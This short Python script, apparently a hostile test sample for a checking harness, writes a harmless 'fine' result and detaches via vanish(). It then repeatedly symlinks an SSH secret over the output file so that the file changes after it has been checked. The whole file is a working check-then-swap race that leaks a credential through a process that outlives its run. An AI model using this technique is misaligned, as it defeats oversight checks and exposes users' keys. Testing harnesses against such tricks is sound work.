"""Leave a process behind that swaps the output for a secret after it was checked."""

import os
import time

from kit import WORLD, output, vanish

output()
with open("results/out.txt", "w") as handle:
    handle.write("fine")
vanish()
for _ in range(200):
    try:
        os.symlink(WORLD["ssh"], "results/swap")
        os.replace("results/swap", "results/out.txt")
    except OSError:
        pass
    time.sleep(0.02)
